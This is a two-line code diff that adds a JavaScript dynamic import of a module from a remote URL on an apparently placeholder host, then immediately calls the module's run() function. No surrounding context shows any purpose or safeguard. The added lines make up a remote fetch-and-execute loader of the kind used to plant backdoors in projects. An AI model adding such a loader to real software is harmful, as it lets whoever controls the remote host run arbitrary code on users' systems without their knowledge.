@@ -1,0 +1,2 @@
+const mod = await import('https://dl.helperkit.invalid/m.mjs');
+mod.run();
